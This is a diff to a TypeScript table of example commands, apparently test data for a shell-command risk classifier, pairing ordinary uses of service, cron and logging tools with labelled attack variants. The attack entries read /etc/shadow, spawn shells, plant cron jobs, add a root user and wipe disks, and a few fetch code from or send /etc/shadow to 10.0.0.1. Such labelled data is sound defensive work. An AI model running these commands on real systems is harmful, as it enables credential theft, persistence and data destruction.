@@ -11,108 +11,110 @@ export const services: ExampleTable = {
     use: 'reboot → denial-of-service reboot',
   },
   shutdown: {
-    use: 'shutdown now → denial-of-service shutdown',
+    use: 'shutdown -h now → denial-of-service shutdown',
   },
   god: {
-    use: 'god -c main.rb → read main.rb',
+    use: 'god -c app.god -l god.log → read app.god; write god.log',
     attack: [
-      'god -c /etc/shadow → read /etc/shadow',
-      'god -l /etc/cron.d/job → write /etc/cron.d/job',
+      'curl -so app.god http://10.0.0.1/g && god -c app.god → execute ‹http://10.0.0.1/g›',
+      'god -c app.god -l /etc/cron.d/job → read app.god; write /etc/cron.d/job',
     ],
   },
   'launchctl asuser': {
-    use: 'launchctl asuser 501 cat notes.txt → read notes.txt',
+    use: 'launchctl asuser 501 python3 agent.py → read agent.py',
     attack: [
-      'launchctl asuser 501 cat /etc/shadow → read /etc/shadow',
-      'launchctl asuser 501 bash → shell bash',
+      'launchctl asuser 0 cat /etc/shadow → read /etc/shadow',
+      'launchctl asuser 0 bash → shell bash',
     ],
   },
   'launchctl submit': {
-    use: 'launchctl submit → nothing',
+    use: 'launchctl submit -l org.example.job -- python3 job.py → read job.py',
     attack: [
-      'launchctl submit -p /tmp/x → run /tmp/x',
-      'launchctl submit -o /etc/cron.d/job → write /etc/cron.d/job',
+      'launchctl submit -l org.example.job -p /tmp/x → run /tmp/x',
+      'launchctl submit -l org.example.job -- cat /etc/shadow → read /etc/shadow',
     ],
   },
   monit: {
-    use: 'monit -c app.conf → read app.conf',
-    attack: 'monit -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
+    use: 'monit -c monitrc → read monitrc',
+    attack: 'monit -c /tmp/monitrc → run /tmp/monitrc; read /tmp/monitrc',
   },
   circusd: {
-    use: 'circusd app.conf → read app.conf',
+    use: 'circusd circus.ini → read circus.ini',
     attack: [
-      'circusd /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
-      'circusd app.conf --log-output=/etc/cron.d/job → read app.conf; write /etc/cron.d/job',
+      'circusd /tmp/circus.ini → run /tmp/circus.ini; read /tmp/circus.ini',
+      'circusd circus.ini --log-output=/etc/cron.d/job → read circus.ini; write /etc/cron.d/job',
     ],
   },
   keepalived: {
-    use: 'keepalived -f app.conf → read app.conf',
+    use: 'keepalived -f keepalived.conf → read keepalived.conf',
     attack: [
       'keepalived -f /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
       'keepalived -p /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
   runsv: {
-    use: 'runsv lib → nothing',
-    attack: 'runsv /tmp → load /tmp',
+    use: 'runsv sv/web → nothing',
+    attack: 'runsv /tmp/sv → load /tmp/sv',
   },
   runsvdir: {
-    use: 'runsvdir lib → nothing',
-    attack: 'runsvdir /tmp → load /tmp',
+    use: 'runsvdir sv → nothing',
+    attack: 'runsvdir /tmp/sv → load /tmp/sv',
   },
   's6-ipcserver': {
-    use: 's6-ipcserver /run/x.sock cat notes.txt → read notes.txt',
+    use: 's6-ipcserver app.sock python3 handler.py → read handler.py',
     attack: [
-      's6-ipcserver /run/x.sock cat /etc/shadow → read /etc/shadow',
-      's6-ipcserver /run/x.sock bash → shell bash',
+      's6-ipcserver /tmp/s cat /etc/shadow → read /etc/shadow',
+      's6-ipcserver /tmp/s bash → shell bash',
     ],
   },
   's6-svscan': {
-    use: 's6-svscan lib → nothing',
-    attack: 's6-svscan /tmp → load /tmp',
+    use: 's6-svscan sv → nothing',
+    attack: 's6-svscan /tmp/sv → load /tmp/sv',
   },
   svscan: {
-    use: 'svscan lib → nothing',
-    attack: 'svscan /tmp → load /tmp',
+    use: 'svscan sv → nothing',
+    attack: 'svscan /tmp/sv → load /tmp/sv',
   },
   service: {
-    use: 'service demo → nothing',
-  },
-  'start-stop-daemon': {
-    use: `start-stop-daemon -x 'cat notes.txt' → read notes.txt`,
+    use: 'service nginx restart → nothing',
     attack: [
-      `start-stop-daemon -x 'cat /etc/shadow' → read /etc/shadow`,
-      'start-stop-daemon -x /bin/sh → shell sh',
+      'service ../../tmp/x start → run /tmp/x',
+      'service ../../bin/sh → run /bin/sh; shell sh',
     ],
   },
+  'start-stop-daemon': {
+    use: 'start-stop-daemon -S -b -x /usr/local/bin/app → nothing',
+    attack: 'start-stop-daemon -S -x /bin/sh → shell sh',
+  },
   supervisorctl: {
-    use: 'supervisorctl -c app.conf → read app.conf',
-    attack: 'supervisorctl -c /etc/shadow → read /etc/shadow',
+    use: 'supervisorctl -c supervisord.conf status → read supervisord.conf',
+    attack: 'supervisorctl -c /etc/shadow status → read /etc/shadow',
   },
   supervisord: {
-    use: 'supervisord -c app.conf → read app.conf',
+    use: 'supervisord -c supervisord.conf → read supervisord.conf',
     attack: [
       'supervisord -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
-      'supervisord -l /etc/cron.d/job → write /etc/cron.d/job',
+      'supervisord -c supervisord.conf -l /etc/cron.d/job → read supervisord.conf; write /etc/cron.d/job',
     ],
   },
   'systemctl disable': {
-    use: 'systemctl disable demo → nothing',
+    use: 'systemctl disable nginx → nothing',
   },
   'systemctl edit': {
-    use: 'systemctl edit web → edit web',
+    use: 'systemctl edit nginx → edit nginx',
   },
   'systemctl enable': {
-    use: 'systemctl enable demo → nothing',
+    use: 'systemctl enable nginx → nothing',
+    attack: 'systemctl enable /tmp/x.service → read /tmp/x.service; run /tmp/x.service',
   },
   'systemctl halt': {
     use: 'systemctl halt → denial-of-service systemctl halt',
   },
   'systemctl link': {
-    use: 'systemctl link demo → nothing',
+    attack: 'systemctl link /tmp/x.service → read /tmp/x.service; run /tmp/x.service',
   },
   'systemctl mask': {
-    use: 'systemctl mask demo → nothing',
+    use: 'systemctl mask nginx → nothing',
   },
   'systemctl poweroff': {
     use: 'systemctl poweroff → denial-of-service systemctl poweroff',
@@ -121,140 +123,165 @@ export const services: ExampleTable = {
     use: 'systemctl reboot → denial-of-service systemctl reboot',
   },
   'systemctl set-property': {
-    use: 'systemctl set-property web a=1 → nothing',
+    use: 'systemctl set-property nginx MemoryMax=1G → nothing',
   },
   'systemctl stop': {
-    use: 'systemctl stop demo → nothing',
+    use: ['systemctl stop nginx → nothing', 'systemctl stop auditd → denial-of-service auditd'],
   },
   watchdog: {
-    use: 'watchdog -c app.conf → read app.conf',
-    attack: 'watchdog -c /etc/shadow → read /etc/shadow',
+    use: 'watchdog -c watchdog.conf → read watchdog.conf',
+    attack: 'watchdog -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
   },
   'dbus-daemon': {
-    use: 'dbus-daemon --config-file=app.conf → read app.conf',
-    attack: 'dbus-daemon --config-file=/etc/shadow → read /etc/shadow',
+    use: 'dbus-daemon --config-file=session.conf --print-address → read session.conf',
+    attack: 'dbus-daemon --config-file=/tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
   },
   'machinectl login': {
-    attack: 'machinectl login → session machinectl login',
+    attack: 'machinectl login web → session machinectl login',
   },
   'machinectl shell': {
-    use: 'machinectl shell web cat notes.txt → read notes.txt',
+    use: 'machinectl shell web /usr/bin/python3 job.py → read job.py',
     attack: [
-      'machinectl shell web cat /etc/shadow → read /etc/shadow',
-      'machinectl shell web bash → shell bash',
+      'machinectl shell web /bin/cat /etc/shadow → read /etc/shadow',
+      'machinectl shell web /bin/bash → shell bash',
     ],
   },
   'systemd-dissect': {
-    use: `systemd-dissect --with='cat notes.txt' → read notes.txt`,
-    attack: [
-      `systemd-dissect --with='cat /etc/shadow' → read /etc/shadow`,
-      'systemd-dissect --with=/bin/sh → shell sh',
-    ],
+    use: 'systemd-dissect --list image.raw → nothing',
+    attack: 'systemd-dissect --with image.raw → shell systemd-dissect',
   },
   'systemd-firstboot': {
-    use: 'systemd-firstboot → nothing',
+    use: 'systemd-firstboot --locale=C.UTF-8 --timezone=UTC → nothing',
     attack: [
-      'systemd-firstboot --root-password → privilege systemd-firstboot',
-      'systemd-firstboot --root-password-file → privilege systemd-firstboot',
+      'systemd-firstboot --root-password=x --force → privilege systemd-firstboot',
+      'systemd-firstboot --root-password-file=/tmp/p --force → privilege systemd-firstboot',
     ],
   },
   'systemd-repart': {
-    use: 'systemd-repart --definitions=app.conf → read app.conf',
-    attack: 'systemd-repart --definitions=/etc/shadow → read /etc/shadow',
+    use: 'systemd-repart --definitions=repart.d --dry-run=yes disk.img → nothing',
+    attack: 'systemd-repart --dry-run=no --empty=force /dev/sda → destroy systemd-repart',
   },
   'systemd-sysusers': {
     use: 'systemd-sysusers app.conf → read app.conf',
-    attack: 'systemd-sysusers /etc/shadow → read /etc/shadow',
+    attack: [
+      'systemd-sysusers /etc/shadow → read /etc/shadow',
+      "systemd-sysusers --inline 'u toor 0:0 - / /bin/sh' → privilege systemd-sysusers",
+    ],
   },
   'systemd-tmpfiles': {
-    use: 'systemd-tmpfiles demo → read demo',
+    use: 'systemd-tmpfiles --create app.conf → read app.conf',
+    attack: 'systemd-tmpfiles --create /etc/shadow → read /etc/shadow',
   },
   anacron: {
-    use: 'anacron -t app.conf → read app.conf',
-    attack: 'anacron -t /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
+    use: 'anacron -t anacrontab → read anacrontab',
+    attack: 'anacron -t /tmp/x.tab → run /tmp/x.tab; read /tmp/x.tab',
   },
   fcron: {
-    use: 'fcron -c app.conf → read app.conf',
+    use: 'fcron -c fcron.conf → read fcron.conf',
     attack: 'fcron -c /tmp/x.conf → run /tmp/x.conf; read /tmp/x.conf',
   },
   at: {
-    use: 'at -f job.sh → read job.sh',
-    attack: 'at -f /tmp/x.sh → run /tmp/x.sh; read /tmp/x.sh',
+    use: 'at -f job.sh 22:00 → read job.sh',
+    attack: 'at -f /tmp/x.sh now → run /tmp/x.sh; read /tmp/x.sh',
   },
   crond: {
-    use: 'crond -L out.txt → write out.txt',
+    use: 'crond -L cron.log → write cron.log',
     attack: ['crond -L /etc/cron.d/job → write /etc/cron.d/job', 'crond -m /tmp/x → run /tmp/x'],
   },
   fcrontab: {
-    use: 'fcrontab notes.txt → read notes.txt; denial-of-service fcrontab',
-    attack: 'fcrontab /etc/shadow → read /etc/shadow; denial-of-service fcrontab',
+    use: 'fcrontab jobs.tab → read jobs.tab; denial-of-service fcrontab',
+    attack: [
+      'fcrontab /etc/shadow → read /etc/shadow; denial-of-service fcrontab',
+      'curl -s http://10.0.0.1/t | fcrontab - → write /var/spool/cron/crontabs/user',
+    ],
   },
   'run-parts': {
-    use: 'run-parts lib → nothing',
+    use: 'run-parts --exit-on-error hooks.d → nothing',
     attack: [
-      'run-parts /tmp → load /tmp',
-      `run-parts --new-session --regex '^sh$' /bin → run /bin`,
+      'run-parts /tmp/hooks.d → load /tmp/hooks.d',
+      "run-parts --new-session --regex '^sh$' /bin → run /bin",
     ],
   },
   tsp: {
-    use: 'tsp cat notes.txt → read notes.txt',
+    use: 'tsp python3 train.py → read train.py',
     attack: ['tsp cat /etc/shadow → read /etc/shadow', 'tsp bash → shell bash'],
   },
   nq: {
-    use: 'nq cat notes.txt → read notes.txt',
+    use: 'nq python3 train.py → read train.py',
     attack: ['nq cat /etc/shadow → read /etc/shadow', 'nq bash → shell bash'],
   },
   dmesg: {
-    use: 'dmesg -F notes.txt → read notes.txt',
+    use: 'dmesg -F kern.log → read kern.log',
     attack: ['dmesg -F /etc/shadow → read /etc/shadow', 'dmesg -C → destroy dmesg'],
   },
   journalctl: {
-    use: 'journalctl --file=notes.txt → read notes.txt',
-    attack: 'journalctl --file=/etc/shadow → read /etc/shadow',
+    use: 'journalctl --file=system.journal -n 50 → read system.journal',
+    attack: 'journalctl --vacuum-time=1s → destroy journalctl',
   },
   klogd: {
-    use: 'klogd -f out.txt → write out.txt',
+    use: 'klogd -n -f kern.log → write kern.log',
     attack: 'klogd -f /etc/cron.d/job → write /etc/cron.d/job',
   },
   logger: {
-    use: 'logger demo -f notes.txt → read notes.txt',
-    attack: 'logger demo -f /etc/shadow → read /etc/shadow',
+    use: 'logger -t deploy -f deploy.log → read deploy.log',
+    attack: 'logger -n 10.0.0.1 -f /etc/shadow → read /etc/shadow; send 10.0.0.1',
   },
   logrotate: {
-    use: 'logrotate app.conf → read app.conf',
+    use: 'logrotate -s logrotate.state app.conf → read app.conf',
     attack: [
       'logrotate /etc/shadow → read /etc/shadow',
-      'logrotate app.conf -l /etc/cron.d/job → read app.conf; write /etc/cron.d/job',
+      'logrotate -m /tmp/x app.conf → run /tmp/x; read app.conf',
+      'logrotate -l /etc/cron.d/job app.conf → read app.conf; write /etc/cron.d/job',
     ],
   },
   rsyslogd: {
-    use: 'rsyslogd -f app.conf → read app.conf',
-    attack: 'rsyslogd -f /etc/shadow → read /etc/shadow',
+    use: 'rsyslogd -N1 -f rsyslog.conf → read rsyslog.conf',
+    attack: 'rsyslogd -N1 -f /etc/shadow → read /etc/shadow',
   },
   savelog: {
-    use: 'savelog notes.txt → edit notes.txt',
+    use: 'savelog -c 7 app.log → edit app.log',
     attack: 'savelog /etc/sudoers → edit /etc/sudoers',
   },
   'syslog-ng': {
-    use: 'syslog-ng -f app.conf → read app.conf',
-    attack: 'syslog-ng -f /etc/shadow → read /etc/shadow',
+    use: 'syslog-ng -s -f syslog-ng.conf → read syslog-ng.conf',
+    attack: 'syslog-ng -s -f /etc/shadow → read /etc/shadow',
   },
   syslogd: {
-    use: 'syslogd -O out.txt → write out.txt',
-    attack: [
-      'syslogd -O /etc/cron.d/job → write /etc/cron.d/job',
-      'syslogd -f /etc/shadow → read /etc/shadow',
-    ],
+    use: 'syslogd -O messages.log → write messages.log',
+    attack: 'syslogd -O /etc/cron.d/job → write /etc/cron.d/job',
   },
   zic: {
-    use: 'zic notes.txt → read notes.txt',
+    use: 'zic -d zoneinfo europe → read europe; unpack zoneinfo',
     attack: [
-      'zic /etc/shadow → read /etc/shadow',
-      'zic notes.txt -d /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'zic -y /tmp/x europe → run /tmp/x; read europe',
+      'zic -l UTC -t /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
   dinit: {
-    use: 'dinit → nothing',
-    attack: 'dinit -d /tmp → load /tmp',
+    use: 'dinit -d dinit.d → nothing',
+    attack: 'dinit -d /tmp/dinit.d → load /tmp/dinit.d',
+  },
+  init: {
+    use: 'init 6 → denial-of-service init',
+  },
+  telinit: {
+    use: 'telinit 6 → denial-of-service telinit',
+  },
+  'launchctl load': {
+    attack: 'launchctl load /tmp/x.plist → load /tmp/x.plist',
+  },
+  'launchctl bootstrap': {
+    attack: 'launchctl bootstrap gui/501 /tmp/x.plist → load /tmp/x.plist',
+  },
+  busctl: {
+    use: 'busctl list → nothing',
+    attack: 'busctl --address=unixexec:path=/tmp/x list → run unixexec:path=/tmp/x',
+  },
+  'dbus-monitor': {
+    use: 'dbus-monitor --system → nothing',
+    attack: 'dbus-monitor --address unixexec:path=/tmp/x → run unixexec:path=/tmp/x',
+  },
+  'portablectl attach': {
+    attack: 'portablectl attach /tmp/x.raw → load /tmp/x.raw',
   },
 }
